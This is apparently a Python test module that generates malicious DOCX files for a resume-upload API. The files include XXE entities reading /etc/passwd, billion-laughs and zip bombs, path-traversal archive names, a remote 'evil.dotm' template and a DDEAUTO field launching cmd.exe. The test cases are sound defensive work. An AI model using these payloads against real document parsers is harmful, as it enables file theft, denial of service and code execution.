"""DOCX files: archives of XML, with all that can be wrong with either."""

import struct
import zipfile
from collections.abc import Mapping
from io import BytesIO
from typing import Final

from tests.api.hostile.case import ACCEPTED, WRONG_TYPE, Case
from tests.api.resumes.files import docx

W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN: Final = "word/document.xml"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS: Final = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
ADA: Final = "Ada Lovelace"
TEXT: Final = f"<w:p><w:r><w:t>{ADA}, engineer, London</w:t></w:r></w:p>"
COMPOUND: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CENTRAL: Final = b"PK\x01\x02"
"""Begins an entry of an archive's list of contents."""

MB: Final = 1024 * 1024


def document(body: str = TEXT, *, declaration: str = "") -> str:
    """The main part."""
    root = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return f'<?xml version="1.0"?>{declaration}{root}'


def archive(parts: Mapping[str, str | bytes], *, main: str | bytes | None = None) -> bytes:
    """A file of the usual parts and of these."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("_rels/.rels", RELATIONS)
        file.writestr(MAIN, document() if main is None else main)
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def other(parts: Mapping[str, bytes]) -> bytes:
    """An archive that is something else."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def patched(data: bytes, offset: int, value: bytes, *, signature: bytes) -> bytes:
    """With `value` at `offset` of the last header of this kind."""
    at = data.rindex(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def doubled() -> bytes:
    """Two parts of one name: a checker may see the one, a reader the other."""
    once = archive({"word/documenX.xml": document()})
    return once.replace(b"word/documenX.xml", b"word/document.xml")


def declared() -> list[Case]:
    """XML that declares entities."""
    xxe = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://127.0.0.1/x.dtd">'
    laughs = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
    )
    body = "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"
    laughing = document(body.replace("&e;", "&a11;"), declaration=f"{laughs}]>")
    wide = document(body, declaration=xxe).encode("utf-16")
    relations = RELATIONS.replace("<Rel", f"{xxe}<Rel", 1)
    return [
        Case("reads_a_file", archive({}, main=document(body, declaration=xxe)), "broken_file"),
        Case("reads_a_file_in_utf_16", archive({}, main=wide), "broken_file"),
        Case("fetches_a_dtd", archive({}, main=document(declaration=remote)), "broken_file"),
        Case("billion_laughs", archive({}, main=laughing), "broken_file"),
        Case("in_another_part", archive({"word/styles.xml": relations}), "broken_file"),
    ]


def packed() -> list[Case]:
    """Archives that are broken or made to fill the memory."""
    bomb = archive({"word/media/x.bmp": b"\0" * (100 * MB)})
    xml_bomb = archive({}, main=document("<w:p/>" * (4 * MB)))
    lying = patched(bomb, 24, struct.pack("<I", 9), signature=CENTRAL)
    endless = patched(bomb, 24, struct.pack("<I", 0xFFFFFFF0), signature=CENTRAL)
    wrong_sum = patched(archive({"word/styles.xml": "<x/>"}), 16, b"\1\2\3\4", signature=CENTRAL)
    parts = {f"word/{n}.txt": "" for n in range(5_000)}
    whole = docx()
    return [
        Case("bomb", bomb, "unpacks_too_large"),
        Case("bomb_of_xml", xml_bomb, "unpacks_too_large"),
        Case("bomb_that_says_four_gigabytes", endless, "unpacks_too_large"),
        Case("bomb_that_says_nine_bytes", lying, ACCEPTED, says=ADA),
        Case("wrong_sum", wrong_sum, "broken_file"),
        Case("parts_5000", archive(parts), "unpacks_too_large"),
        Case("two_of_one_name", doubled(), "broken_file"),
        Case("cut_off", whole[: len(whole) // 2], "broken_file"),
        Case("head_only", b"PK\x03\x04", "broken_file"),
        Case("half_xml", archive({}, main=document()[:-20]), "broken_file"),
        Case("no_xml", archive({}, main=b"\0\1\2" * 99), "broken_file"),
        Case("locked_archive", patched(archive({}), 8, b"\1\0", signature=CENTRAL),
             "encrypted_file"),
        Case("nested_tables", archive({}, main=document(
            "<w:tbl><w:tr><w:tc>" * 100_000 + TEXT + "</w:tc></w:tr></w:tbl>" * 100_000)),
             "broken_file"),
        Case("many_tables", archive({}, main=document(
            "<w:tbl><w:tr><w:tc/></w:tr></w:tbl>" * 50_000 + TEXT)), ACCEPTED, says=ADA),
    ]  # fmt: skip


def leaving() -> list[Case]:
    """Archives that would write elsewhere if they were unpacked to a disk."""
    names = ("../../../tmp/x", "/etc/cron.d/x", "..\\..\\x", "C:\\x.exe", "a/../../x")
    return [
        Case(f"leaves_{number}", archive({name: b"x"}), "broken_file")
        for number, name in enumerate(names)
    ]


def locked_package() -> bytes:
    """An encrypted document of Word: a compound file with the package in it."""
    return COMPOUND + bytes(2_000) + "EncryptedPackage".encode("utf-16-le")


def cases() -> list[Case]:
    """All of them."""
    template = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="t" Type="{OFFICE}/attachedTemplate" TargetMode="External"'
        ' Target="http://127.0.0.1/evil.dotm"/></Relationships>'
    )
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
    return [
        *declared(),
        *packed(),
        *leaving(),
        Case("locked_document", locked_package(), "encrypted_file"),
        Case("empty", archive({}, main=document("")), "no_text"),
        Case("remote_template", archive({"word/_rels/settings.xml.rels": template}), ACCEPTED,
             says=ADA),
        Case("field_that_starts_a_program", archive({}, main=document(TEXT + field)), ACCEPTED,
             says=ADA),
        Case("macros", archive({"word/vbaProject.bin": b"x"}), WRONG_TYPE),
        Case("old_word", COMPOUND + bytes(2_000), WRONG_TYPE),
        Case("plain_archive", other({"x.txt": b"hello"}), WRONG_TYPE),
        Case("spreadsheet", other({"xl/workbook.xml": b"<workbook/>"}), WRONG_TYPE),
        Case("program_for_java", other({"META-INF/MANIFEST.MF": b"Main-Class: X"}), WRONG_TYPE),
        Case("open_document", other({"mimetype": b"application/vnd.oasis.opendocument.text"}),
             WRONG_TYPE),
    ]  # fmt: skip
